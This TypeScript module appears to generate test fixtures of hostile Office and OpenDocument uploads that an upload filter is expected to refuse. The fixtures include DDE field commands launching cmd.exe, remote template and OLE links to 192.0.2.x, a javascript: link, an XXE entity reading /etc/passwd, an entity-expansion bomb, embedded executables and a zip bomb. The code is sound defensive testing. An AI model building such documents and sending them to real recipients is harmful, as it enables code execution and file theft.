import { type CraftedEntry, craftedZip } from './crafted-zip.ts';
import { documentParts } from './good-files.ts';
import type { Chance, HostileUpload } from './hostile-upload.ts';

const wordType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const excelType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';
const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

const part = (name: string, content: string | Buffer): CraftedEntry => ({
  name,
  content: Buffer.from(content as string),
});
const word = (...others: readonly CraftedEntry[]): Buffer => {
  const taken = new Set(others.map(({ name }) => name));
  return craftedZip([
    ...documentParts('word/document.xml', wordType).filter(({ name }) => !taken.has(name)),
    ...others,
  ]);
};
const excel = (...others: readonly CraftedEntry[]): Buffer =>
  craftedZip([...documentParts('xl/workbook.xml', excelType), ...others]);
const outside = (type: string, target: string): CraftedEntry =>
  part(
    'word/_rels/document.xml.rels',
    `<Relationships><Relationship Id="r1" Type="${relations}/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  );
const body = (inside: string): CraftedEntry =>
  part('word/document.xml', `<w:document xmlns:w="sample"><w:body>${inside}</w:body></w:document>`);
const field = (...pieces: readonly string[]): CraftedEntry =>
  body(pieces.map((text) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`).join(''));
const types = (type: string): CraftedEntry =>
  part('[Content_Types].xml', `<Types><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`);
const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(500)]);

const documents: readonly [harm: string, ending: 'docx' | 'xlsx' | 'odt', content: (chance: Chance) => Buffer][] = [
  ['macros in Word', 'docx', (chance) => word(part('word/vbaProject.bin', chance.bytes(200)))],
  [
    'macros in another folder',
    'docx',
    (chance) => word(part(`${chance.pick(['custom', 'word/x', 'docProps'])}/VBAPROJECT.BIN`, 'x')),
  ],
  ['data of macros', 'docx', () => word(part('word/vbaData.xml', '<x/>'))],
  ['the type of a macro document', 'docx', () => word(types('application/vnd.ms-word.document.macroEnabled.main+xml'))],
  [
    'the type of a macro template',
    'docx',
    () => word(types('application/vnd.ms-word.template.macroEnabledTemplate.main+xml')),
  ],
  ['ActiveX', 'docx', () => word(part('word/activeX/activeX1.xml', '<x/>'))],
  [
    'a template from elsewhere',
    'docx',
    (chance) => word(outside('attachedTemplate', `http://192.0.2.${chance.below(255)}/t.dotm`)),
  ],
  ['a frame from elsewhere', 'docx', () => word(outside('frame', 'http://192.0.2.1/x.html'))],
  [
    'an object from elsewhere',
    'docx',
    () => word(outside('oleObject', 'mhtml:http://192.0.2.1/x!x-usc:http://192.0.2.1/x')),
  ],
  ['a document within from elsewhere', 'docx', () => word(outside('subDocument', 'file://192.0.2.1/share'))],
  ['a picture from a share', 'docx', () => word(outside('image', '\\\\192.0.2.1\\share\\x.png'))],
  ['a link that is a script', 'docx', () => word(outside('hyperlink', 'javascript:alert(1)'))],
  [
    'a link to the search of Windows',
    'docx',
    () => word(outside('hyperlink', 'search-ms:query=x&amp;crumb=location:\\\\192.0.2.1')),
  ],
  ['a command in a field', 'docx', () => word(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'))],
  ['a command in pieces', 'docx', () => word(field('DD', 'E', ' c:\\\\cmd "x"'))],
  ['a command in a plain field', 'docx', () => word(body('<w:fldSimple w:instr="DDE cmd x"/>'))],
  ['a text from elsewhere', 'docx', () => word(field('INCLUDETEXT "http://192.0.2.1/x"'))],
  [
    'a program as an object',
    'docx',
    () =>
      word(
        part(
          'word/embeddings/oleObject1.bin',
          Buffer.concat([ole, Buffer.from('\x01Ole10Native', 'utf16le'), Buffer.from('MZ')]),
        ),
      ),
  ],
  [
    'a program as a picture',
    'docx',
    () => word(part('word/media/image1.png', Buffer.concat([Buffer.from('MZ\x90\0', 'latin1'), Buffer.alloc(300)]))),
  ],
  [
    'a script by its name',
    'docx',
    (chance) => word(part(`word/media/x.${chance.pick(['exe', 'vbs', 'hta', 'ps1', 'lnk', 'bat'])}`, 'x')),
  ],
  ['entities', 'docx', () => word(part('word/document.xml', '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'))],
  [
    'entities that grow',
    'docx',
    () =>
      word(
        part(
          'word/styles.xml',
          `<!DOCTYPE x [${Array.from({ length: 9 }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`).join('')}]><x>&e9;</x>`,
        ),
      ),
  ],
  [
    'an entity from a file',
    'docx',
    () => word(part('docProps/core.xml', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>')),
  ],
  [
    'entities in UTF-16',
    'docx',
    () => word(part('word/settings.xml', Buffer.from('\ufeff<!DOCTYPE x [<!ENTITY a "b">]><x/>', 'utf16le'))),
  ],
  [
    'entities in UTF-7',
    'docx',
    () => word(part('word/settings.xml', '<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE x+AD4-')),
  ],
  ['a part that unpacks to much', 'docx', () => word(part('word/document.xml', Buffer.alloc(60 * 1_048_576, 32)))],
  ['macros in Excel', 'xlsx', () => excel(part('xl/vbaProject.bin', 'x'))],
  ['macro sheets', 'xlsx', () => excel(part('xl/macrosheets/sheet1.xml', '<x/>'))],
  [
    'a command in Excel',
    'xlsx',
    () =>
      excel(
        part(
          'xl/externalLinks/externalLink1.xml',
          '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        ),
      ),
  ],
  [
    'a binary workbook',
    'xlsx',
    () => craftedZip([part('[Content_Types].xml', '<Types/>'), part('xl/workbook.bin', 'x')]),
  ],
  [
    'a presentation',
    'docx',
    () => craftedZip([part('[Content_Types].xml', '<Types/>'), part('ppt/presentation.xml', '<x/>')]),
  ],
  [
    'Basic in OpenDocument',
    'odt',
    () =>
      craftedZip([
        { ...part('mimetype', 'application/vnd.oasis.opendocument.text'), method: 0 },
        part('content.xml', '<x/>'),
        part('Basic/Standard/Module1.xml', '<x/>'),
      ]),
  ],
  [
    'a script at an event',
    'odt',
    () =>
      craftedZip([
        { ...part('mimetype', 'application/vnd.oasis.opendocument.text'), method: 0 },
        part('content.xml', '<x><script:event-listener xlink:href="vnd.sun.star.script:x"/></x>'),
      ]),
  ],
  [
    'a locked OpenDocument',
    'odt',
    () =>
      craftedZip([
        { ...part('mimetype', 'application/vnd.oasis.opendocument.text'), method: 0 },
        part('META-INF/manifest.xml', '<manifest:encryption-data/>'),
      ]),
  ],
];

export function badDocument(chance: Chance): HostileUpload {
  const [harm, ending, content] = chance.pick(documents);
  const made = content(chance);
  return {
    harm,
    name: `paper.${ending}`,
    role: ending === 'xlsx' ? 'supplement' : 'manuscript',
    content: () => made,
    isRefused: true,
  };
}
